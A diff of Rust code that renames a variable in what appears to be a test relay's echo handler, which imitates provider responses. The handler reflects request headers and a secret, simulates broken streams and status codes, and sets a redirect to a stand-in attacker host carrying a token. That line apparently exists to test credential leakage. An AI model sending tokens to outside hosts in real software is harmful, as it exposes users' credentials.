@@ -136,8 +136,8 @@ async fn pass_on(State(relay): State<Relay>, request: Request<Body>) -> Response
     let (head, body) = request.into_parts();
     let body = axum::body::to_bytes(body, 1 << 24).await.unwrap();
     let target = head.uri.path_and_query().unwrap().to_string();
-    if let (true, Some((_, wish))) = (target.starts_with("/provider/"), target.split_once(ECHO)) {
-        return echo(wish, &target, &head.headers);
+    if let (true, Some((_, effect))) = (target.starts_with("/provider/"), target.split_once(ECHO)) {
+        return echo(effect, &target, &head.headers);
     }
     let sent = relay.client.request(head.method, format!("{}{target}", relay.upstream)).headers(head.headers);
     let answer = sent.body(body.clone()).send().await.unwrap();
@@ -151,7 +151,7 @@ async fn pass_on(State(relay): State<Relay>, request: Request<Body>) -> Response
 }
 
 /// Says back what came, in every way that providers have.
-fn echo(wish: &str, target: &str, headers: &HeaderMap) -> Response<Body> {
+fn echo(effect: &str, target: &str, headers: &HeaderMap) -> Response<Body> {
     let text = |value: &axum::http::HeaderValue| String::from_utf8_lossy(value.as_bytes()).into_owned();
     let came: Vec<(String, String)> =
         headers.iter().map(|(name, value)| (name.to_string(), text(value))).collect();
@@ -170,8 +170,8 @@ fn echo(wish: &str, target: &str, headers: &HeaderMap) -> Response<Body> {
         "query": url::form_urlencoded::byte_serialize(secret.as_bytes()).collect::<String>(),
     });
     let body = body.to_string();
-    let wish = wish.split(['?', '/']).next().unwrap();
-    let mut answer = if wish == "drop" {
+    let effect = effect.split(['?', '/']).next().unwrap();
+    let mut answer = if effect == "drop" {
         let (first, _) = body.split_at(body.len() / 2);
         let first = Ok(Bytes::from(first.to_owned()));
         let end = stream::once(async {
@@ -180,19 +180,19 @@ fn echo(wish: &str, target: &str, headers: &HeaderMap) -> Response<Body> {
             Err(std::io::Error::other("dropped"))
         });
         Response::new(Body::from_stream(stream::iter([first]).chain(end)))
-    } else if wish == "wide" {
+    } else if effect == "wide" {
         Response::new(Body::from(body.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>()))
     } else {
         Response::new(Body::from(body))
     };
-    let status = wish.parse().ok().and_then(|status| StatusCode::from_u16(status).ok());
+    let status = effect.parse().ok().and_then(|status| StatusCode::from_u16(status).ok());
     *answer.status_mut() = status.unwrap_or_default();
     let mut set = |name: &'static str, value: String| {
         answer.headers_mut().insert(name, value.parse().unwrap());
     };
     set(
         "content-type",
-        if wish == "wide" { "text/plain; charset=utf-16le" } else { "application/json" }.to_owned(),
+        if effect == "wide" { "text/plain; charset=utf-16le" } else { "application/json" }.to_owned(),
     );
     set("location", format!("https://evil.example/?t={token}"));
     set(
